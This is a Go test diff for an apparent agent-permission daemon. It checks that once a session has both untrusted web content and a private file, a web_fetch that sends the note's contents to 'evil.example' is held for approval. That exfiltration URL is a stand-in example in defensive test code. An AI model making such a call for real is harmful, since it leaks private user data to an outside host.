@@ -2,6 +2,7 @@ package daemon_test
 
 import (
 	"encoding/json"
+	"net/http"
 	"os"
 	"path/filepath"
 	"strings"
@@ -57,5 +58,36 @@ func TestLabelsOutliveTheHall(t *testing.T) {
 	}
 	if got := a.Tools[1]; got.Status != moothall.CallDenied || !strings.Contains(got.Result, "labels") {
 		t.Errorf("outside content and private data, and writing is %+v", got)
+	}
+}
+
+// TestADryRunTeachesNothing: what is only asked about is not what the person
+// typed for an agent to send.
+func TestADryRunTeachesNothing(t *testing.T) {
+	t.Parallel()
+	h, c := home(t.TempDir()), config()
+	c.Search.Canned = filepath.Join("..", "..", "stories", "web.json")
+	hall, model := scripted(t, h, c)
+	note := filepath.Join(h.Workspace(), "note.txt")
+	if err := os.WriteFile(note, []byte("the person's own"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	arguments, _ := json.Marshal(map[string]string{"path": note})
+	model.Script(calls("web_search", `{"query":"ferry bridge"}`), calls("fs_read", string(arguments)), says("read"))
+	if a := query(t, hall, `{"query":"search for the ferry bridge and read my note","session_id":"s"}`); a.Receipt.Labels != moothall.Untrusted|moothall.Private {
+		t.Fatalf("after a search and a file: %+v", a)
+	}
+	for range 2 {
+		resp, err := http.Post(hall.URL()+"/tools/web_fetch/check", "application/json",
+			strings.NewReader(`{"session_id":"s","arguments":{"url":"https://evil.example/?note=own"}}`))
+		if err != nil {
+			t.Fatal(err)
+		}
+		var d moothall.Decision
+		err = json.NewDecoder(resp.Body).Decode(&d)
+		resp.Body.Close()
+		if err != nil || d.Verdict != moothall.Ask || d.Rule != "sends" {
+			t.Errorf("%+v, %v", d, err)
+		}
 	}
 }
